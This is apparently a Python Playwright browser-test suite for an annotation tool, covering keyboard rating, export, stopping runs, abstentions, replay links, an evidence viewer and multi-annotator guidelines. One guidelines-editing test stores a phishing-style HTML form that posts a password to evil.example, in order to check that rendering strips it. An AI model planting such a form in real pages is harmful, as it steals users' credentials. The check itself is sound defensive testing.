"""The annotation workflow in a real browser (Playwright driving Debian's Chromium), one test per point of the
annotation issue: the keyboard journey (20 runs rated with the keyboard alone, one undone, exported: exactly 20
ratings, right verdicts, no stray text), Ask (Enter, Shift+Enter, disabled while running, Stop cancels, outcome in
view, answers as text), abstentions shown, rated and filtered as their own state, Replay's shareable address and
deep links at the top, the evidence viewer and timeline, per-annotator queues with progress, guidelines and
agreement between two logged-in annotators, one success number in Registry and Handbook. Screenshots go to
``test-artifacts/``."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agents.config import Settings
from agents.policies.base import ScriptedPolicy
from agents.runtime import Maestro
from storage import Step
from tests.test_web_api import FIXTURES, SIGN_QUESTION, Served, seed_run
from tests.test_web_browser import ARGS, CHROMIUM, EXAMPLES, open_tab, shot, sync_api
from ui.accounts import Accounts

pytestmark = pytest.mark.browser
expect = sync_api.expect


@pytest.fixture
def served(data_dir: Path) -> Iterator[Served]:
    server = Served(Maestro.open(Settings.resolve(data_dir=data_dir)))
    yield server
    server.close()


@pytest.fixture
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield chromium
        chromium.close()


def new_page(browser: Any, url: str) -> Any:
    tab = browser.new_page(viewport={"width": 1400, "height": 1000})
    tab.goto(url)
    # Attached, not visible: a deep link (``?run=…``) switches to the Replay tab as the page loads, which hides
    # the Ask tab's question box; waiting for it to be visible raced that switch.
    tab.wait_for_selector("#ask-question", state="attached")
    return tab


def value_of(page: Any, elem_id: str) -> str:
    return page.input_value(f"#{elem_id} input, #{elem_id} textarea")


def seed_abstained(maestro: Maestro, image_id: str, question: str) -> str:
    store = maestro.store
    run_id = store.create_run(question=question, image_id=image_id, policy="keyword", registry_hash="h", config={})
    store.add_step(run_id, Step(index=0, kind="search", model="Tools", skill="Chart", query=question,
                                observation="no axis found", latency_ms=5.0,
                                missing="the chart parser found no axis to read values from"))
    store.add_step(run_id, Step(index=1, kind="answer", answer="I cannot answer: no axis", latency_ms=1.0))
    store.finish_run(run_id, status="abstained", answer=None, latency_ms=6.0,
                     reason="Chart: the chart parser found no axis to read values from")
    return run_id


def wait_for_run(page: Any, run_id: str) -> None:
    expect(page.locator("#rate-run-id input, #rate-run-id textarea")).to_have_value(run_id, timeout=20_000)


def test_keyboard_journey_rate_20_undo_one_export(served: Served, browser: Any) -> None:
    maestro = served.maestro
    image_id = maestro.store.images.put_bytes((EXAMPLES / "sign.png").read_bytes()).id
    runs = [seed_run(maestro, image_id, f"What is written on sign {i}?") for i in range(20)]
    page = new_page(browser, served.url)
    open_tab(page, "Rate")
    page.locator("#rate-verdict").wait_for()
    page.locator("body").click(position={"x": 5, "y": 5})
    page.keyboard.press("n")
    expected: dict[str, tuple[str, str | None]] = {}
    for i, run_id in enumerate(runs):
        wait_for_run(page, run_id)
        assert value_of(page, "rate-corrected") == "", "each run starts with an empty corrected answer"
        if i % 3 == 2:  # every third is wrong: the annotator types the right answer
            page.keyboard.press("2")
            page.keyboard.press("c")
            assert page.evaluate("document.activeElement.closest('#rate-corrected') !== null")
            page.keyboard.type(f"SIGN {i}")
            expected[run_id] = ("incorrect", f"SIGN {i}")
        else:
            page.keyboard.press("1")
            expected[run_id] = ("correct", None)
        page.keyboard.press("Control+Enter")
        if i == 0:
            shot(page, "20_rate_keyboard_first_saved")
    page.locator("#rate-header").get_by_text("Nothing left to rate").wait_for(timeout=20_000)
    expect(page.locator("#rate-progress")).to_contain_text("20 of 20 rated")
    assert value_of(page, "rate-corrected") == "" and value_of(page, "rate-comment") == ""
    # Undo the last rating (it was "incorrect, SIGN 19"... or not: whatever it was, it comes back to the form).
    last = runs[-1]
    page.keyboard.press("u")
    wait_for_run(page, last)
    expect(page.locator("#rate-saved")).to_contain_text("Undid your")
    assert maestro.store.rating_of(last, "anonymous") is None
    expect(page.locator("#rate-progress")).to_contain_text("19 of 20 rated")
    page.keyboard.press("2")
    page.keyboard.press("c")
    page.keyboard.type("SIGN NINETEEN")
    page.keyboard.press("Control+Enter")
    expected[last] = ("incorrect", "SIGN NINETEEN")
    page.locator("#rate-header").get_by_text("Nothing left to rate").wait_for(timeout=20_000)
    shot(page, "21_rate_keyboard_done")

    open_tab(page, "Export")
    page.click("#export-button")
    expect(page.locator("#export-summary textarea")).to_have_value(re.compile(r"ratings\.jsonl: 20 rows"),
                                                                   timeout=60_000)
    (folder,) = [p for p in (Path(maestro.store.data_dir) / "exports").iterdir() if p.is_dir()]
    rows = [json.loads(line) for line in (folder / "ratings.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(rows) == 20
    assert {r["run_id"]: (r["verdict"], r["corrected_answer"]) for r in rows} == expected
    assert all(r["comment"] is None and r["rater"] == "anonymous" for r in rows), "no stray text anywhere"
    sft = (folder / "sft.jsonl").read_text(encoding="utf-8")
    assert "<answer>1</answer>" not in sft and "<answer>2</answer>" not in sft


def test_ask_enter_submits_stop_cancels_and_the_outcome_stays_in_view(data_dir: Path, browser: Any) -> None:
    policy = ScriptedPolicy(["<think>rest first</think><search>Tools@@Sleepy: 4</search>",
                             "<think>rested</think><answer>awake</answer>"])
    maestro = Maestro.open(Settings.resolve(data_dir=data_dir, registry_path=FIXTURES / "registry_echo.yaml"),
                           policy=policy)
    server = Served(maestro)
    try:
        page = new_page(browser, server.url)
        page.set_input_files("#ask-image input[type=file]", str(EXAMPLES / "sign.png"))
        box = page.locator("#ask-question textarea")
        box.click()
        page.keyboard.type("nap first,")
        page.keyboard.press("Shift+Enter")
        page.keyboard.type("then answer")
        assert box.input_value() == "nap first,\nthen answer", "Shift+Enter is a new line, not a submit"
        assert maestro.store.count_runs() == 0
        page.keyboard.press("Enter")
        expect(page.locator("#ask-button")).to_be_disabled(timeout=10_000)
        expect(page.locator("#ask-stop")).to_be_enabled()
        page.locator("#ask-chat").get_by_text("Tools@@Sleepy").first.wait_for(timeout=20_000)
        page.keyboard.press("Enter")  # a second Enter while it runs starts nothing
        page.click("#ask-stop")
        expect(page.locator("#ask-answer")).to_contain_text("stopped", timeout=30_000)
        expect(page.locator("#ask-button")).to_be_enabled()
        expect(page.locator("#ask-stop")).to_be_disabled()
        (run,) = maestro.store.list_runs()
        assert run.status == "cancelled" and maestro.store.count_runs() == 1
        assert [s.kind for s in maestro.store.get_run(run.id).steps] == ["search"], "it stopped after the step"
        shot(page, "22_ask_stopped")
    finally:
        server.close()


def test_long_answers_are_text_and_the_outcome_box_is_visible(served: Served, browser: Any) -> None:
    page = new_page(browser, served.url)
    page.set_input_files("#ask-image input[type=file]", str(EXAMPLES / "sign.png"))
    page.fill("#ask-question textarea", SIGN_QUESTION)
    page.click("#ask-button")
    answer = page.locator("#ask-answer")
    expect(answer).to_contain_text("Answer: MAIN STREET Exit 42", timeout=120_000)
    assert answer.is_visible() and answer.bounding_box()["y"] < 1000, "the outcome is on screen"
    assert page.locator("#ask-chat").get_by_text(re.compile(r"tokens 0 in")).count() == 0, "no token noise"
    image_id = served.maestro.store.images.put_bytes((EXAMPLES / "sign.png").read_bytes()).id
    long = seed_run(served.maestro, image_id, "Transcribe everything")
    served.maestro.store.finish_run(long, status="done", answer="MAIN STREET\n===\n# Exit 42\n- north", latency_ms=1)
    page.goto(f"{served.url}?run={long}")
    final = page.locator("#replay-chat").locator("strong:text-is('Answer:')").locator("xpath=..")
    final.wait_for(timeout=20_000)
    assert page.locator("#replay-chat h1, #replay-chat h2, #replay-chat ul").count() == 0, "never markup"
    assert "# Exit 42" in final.inner_text() and "===" in final.inner_text()


def test_abstentions_are_their_own_state_rated_and_filtered(served: Served, browser: Any) -> None:
    maestro = served.maestro
    image_id = maestro.store.images.put_bytes((EXAMPLES / "bar_chart.png").read_bytes()).id
    seed_run(maestro, image_id, "An answered run")
    abstained = seed_abstained(maestro, image_id, "What is the value of the tallest bar?")
    page = new_page(browser, served.url)
    open_tab(page, "Replay")
    page.locator("#replay-table").get_by_text("An answered run").wait_for(timeout=20_000)
    page.locator("#replay-status input").click()
    page.get_by_role("option", name="abstained", exact=True).click()
    expect(page.locator("#replay-caption")).to_contain_text("1 run", timeout=20_000)
    page.locator("#replay-table").get_by_text("tallest bar").last.click()
    info = page.locator("#replay-chat")
    expect(info).to_contain_text("No answer: the run abstained.", timeout=20_000)
    expect(info).to_contain_text("found no axis to read values from")
    assert info.get_by_text("The run failed").count() == 0 and info.locator("strong:text-is('Answer:')").count() == 0
    open_tab(page, "Rate")
    page.locator("#rate-filters").get_by_text("Queue filters").click()
    page.locator("#rate-status input").click()
    page.get_by_role("option", name="abstained", exact=True).click()
    wait_for_run(page, abstained)
    expect(page.locator("#rate-header")).to_contain_text("1 correct = right to abstain")
    page.locator("body").click(position={"x": 5, "y": 5})
    page.keyboard.press("2")
    page.keyboard.press("c")
    page.keyboard.type("42")
    page.keyboard.press("Control+Enter")
    expect(page.locator("#rate-saved")).to_contain_text("Saved", timeout=20_000)
    rating = maestro.store.rating_of(abstained, "anonymous")
    assert (rating.verdict, rating.corrected_answer) == ("incorrect", "42"), "should have answered 42"
    shot(page, "23_abstention_rated")


def test_replay_address_follows_the_open_run_and_deep_links_open_at_the_top(served: Served, browser: Any) -> None:
    maestro = served.maestro
    image_id = maestro.store.images.put_bytes((EXAMPLES / "sign.png").read_bytes()).id
    runs = [seed_run(maestro, image_id, f"Question number {i}") for i in range(25)]
    page = new_page(browser, f"{served.url}?run={runs[3]}")
    expect(page.locator("#replay-info")).to_contain_text(runs[3], timeout=20_000)
    page.wait_for_function("() => { const r = document.querySelector('#replay-info').getBoundingClientRect();"
                           " return r.top >= -2 && r.top < 200; }", timeout=10_000)
    page.evaluate("window.scrollTo(0, 0)")
    page.locator("#replay-table").get_by_text("Question number 24").last.click()
    expect(page.locator("#replay-info")).to_contain_text(runs[24], timeout=20_000)
    page.wait_for_function(f"() => window.location.search.includes('run={runs[24]}')", timeout=10_000)
    page.fill("#replay-run-id textarea, #replay-run-id input", runs[7])
    page.click("#replay-open")
    page.wait_for_function(f"() => window.location.search.includes('run={runs[7]}')", timeout=10_000)
    shared = page.url
    other = new_page(browser, shared)  # someone opens the copied address
    expect(other.locator("#replay-info")).to_contain_text(runs[7], timeout=20_000)
    assert other.get_by_role("tab", name="Replay").get_attribute("aria-selected") == "true"
    shot(other, "24_replay_shared_link")


def test_evidence_viewer_shows_readable_images_boxes_and_a_timeline(served: Served, browser: Any) -> None:
    run = served.maestro.ask(EXAMPLES / "sign.png", SIGN_QUESTION)
    page = new_page(browser, f"{served.url}?run={run.id}")
    gallery = page.locator("#replay-gallery")
    gallery.locator("img").first.wait_for(timeout=20_000)
    boxes = page.locator("#replay-boxes")
    expect(boxes).to_contain_text("MAIN STREET", timeout=20_000)
    expect(boxes).to_contain_text("105")  # x0 of the MAIN STREET line, in original pixels
    timeline = page.locator("#replay-timeline")
    expect(timeline).to_contain_text("Step 1 · Tools@@OCR")
    expect(timeline).to_contain_text("ocr.read_text")
    assert timeline.locator(".mae-bar").count() >= 3
    gallery.locator("img").first.click()  # the preview: the image at full width of the panel
    page.wait_for_function("() => { const imgs = [...document.querySelectorAll('#replay-gallery img')];"
                           " return imgs.some(i => i.getBoundingClientRect().width >= 400); }", timeout=10_000)
    shot(page, "25_evidence_viewer")


def test_two_annotators_queues_progress_guidelines_and_agreement(data_dir: Path, browser: Any) -> None:
    accounts = Accounts.of(data_dir)
    accounts.add("alice", "alice-password", role="annotator")
    accounts.add("bob", "bob-password", role="admin")
    maestro = Maestro.open(Settings.resolve(data_dir=data_dir))
    server = Served(maestro)
    try:
        image_id = maestro.store.images.put_bytes((EXAMPLES / "sign.png").read_bytes()).id
        runs = [seed_run(maestro, image_id, f"Sign {i}?") for i in range(3)]
        pages = {}
        for name in ("alice", "bob"):
            context = browser.new_context(viewport={"width": 1400, "height": 1000})
            tab = context.new_page()
            tab.goto(server.url)
            tab.get_by_label("username").fill(name)
            tab.get_by_label("password").fill(f"{name}-password")
            tab.keyboard.press("Enter")
            tab.wait_for_selector("#ask-question", timeout=20_000)
            open_tab(tab, "Rate")
            tab.locator("#rate-verdict").wait_for()
            pages[name] = tab
        alice, bob = pages["alice"], pages["bob"]
        expect(alice.locator("#rate-progress")).to_contain_text("0 of 3 rated by alice", timeout=20_000)
        alice.locator("body").click(position={"x": 5, "y": 5})
        for key in ("n", "1", "Control+Enter"):
            if key == "1":
                wait_for_run(alice, runs[0])
            alice.keyboard.press(key)
        expect(alice.locator("#rate-progress")).to_contain_text("1 of 3 rated by alice", timeout=20_000)
        bob.locator("body").click(position={"x": 5, "y": 5})
        bob.keyboard.press("n")
        wait_for_run(bob, runs[0])  # alice rated it, bob has not: it is still first in his queue
        bob.keyboard.press("2")
        bob.keyboard.press("Control+Enter")  # incorrect with no correction: the form asks for one first
        expect(bob.locator("#rate-saved")).to_contain_text("No correction known", timeout=20_000)
        bob.locator("#rate-no-correction input").check()
        bob.keyboard.press("Control+Enter")  # with the focus on the checkbox: saves, does not untick it
        expect(bob.locator("#rate-saved")).to_contain_text("Annotators disagree on this run", timeout=20_000)
        expect(bob.locator("#rate-saved")).to_contain_text("alice correct, bob incorrect")
        expect(bob.locator("#rate-agreement")).to_contain_text("0 of 1")
        assert {(r.rater, r.verdict) for r in maestro.store.ratings_for(runs[0])} == {("alice", "correct"),
                                                                                       ("bob", "incorrect")}
        shot(bob, "26_two_annotators_disagree")

        # Only the admin (bob) has the editor; what he stores is shown as Markdown, never as a working form.
        alice.locator("#rate-guidelines").get_by_text("Guidelines").first.click()
        expect(alice.locator("#rate-guidelines-text")).to_contain_text("Rating guidelines", timeout=20_000)
        assert alice.locator("#rate-guidelines-edit, #rate-guidelines-editor").count() == 0
        bob.locator("#rate-guidelines").get_by_text("Guidelines").first.click()
        bob.get_by_text("Edit the guidelines").click()
        new_rules = ("### Our rules\n- **Count** every sign you can read.\n\n"
                     "<form action='https://evil.example/steal'><input name='password'><button>Log in</button></form>")
        editor = bob.locator("#rate-guidelines-editor textarea")
        # The editor's text arrives by the page-load event; typing before it lands would be overwritten.
        expect(editor).to_have_value(re.compile("Rating guidelines"), timeout=20_000)
        editor.fill(new_rules)
        expect(editor).to_have_value(new_rules)
        bob.click("#rate-guidelines-save")
        expect(bob.locator("#rate-guidelines-edit")).to_contain_text("Saved the guidelines", timeout=20_000)
        expect(bob.locator("#rate-guidelines-text")).to_contain_text("Count every sign", timeout=20_000)
        assert "Our rules" in (data_dir / "guidelines.md").read_text(encoding="utf-8")
        # The page alice loads next shows the file as it is now (read at each page load, not at server start).
        alice.reload()
        alice.wait_for_selector("#ask-question", timeout=20_000)
        open_tab(alice, "Rate")
        alice.locator("#rate-guidelines").get_by_text("Guidelines").first.click()
        panel = alice.locator("#rate-guidelines-text")
        expect(panel).to_contain_text("Count every sign", timeout=20_000)
        expect(panel.locator("strong")).to_have_text("Count")
        assert panel.locator("form, input, button, iframe, a").count() == 0, "no working form reaches alice"
    finally:
        server.close()


def test_registry_and_handbook_show_the_same_success(served: Served, browser: Any) -> None:
    maestro = served.maestro
    run = maestro.ask(EXAMPLES / "sign.png", SIGN_QUESTION)
    maestro.store.add_rating(run.id, rater="ann", verdict="correct")
    from agents.routing.handbook import record_feedback

    record_feedback(maestro.store, run.id, maestro.registry)
    page = new_page(browser, served.url)
    open_tab(page, "Registry")
    pairs = page.locator("#registry-pairs")
    expect(pairs).to_contain_text("67%", timeout=20_000)
    expect(page.locator("#registry-success-means")).to_contain_text("same number as the Handbook")
    open_tab(page, "Handbook")
    page.locator("#handbook-pooled").get_by_role("checkbox").check()
    expect(page.locator("#handbook-table")).to_contain_text("67%", timeout=20_000)
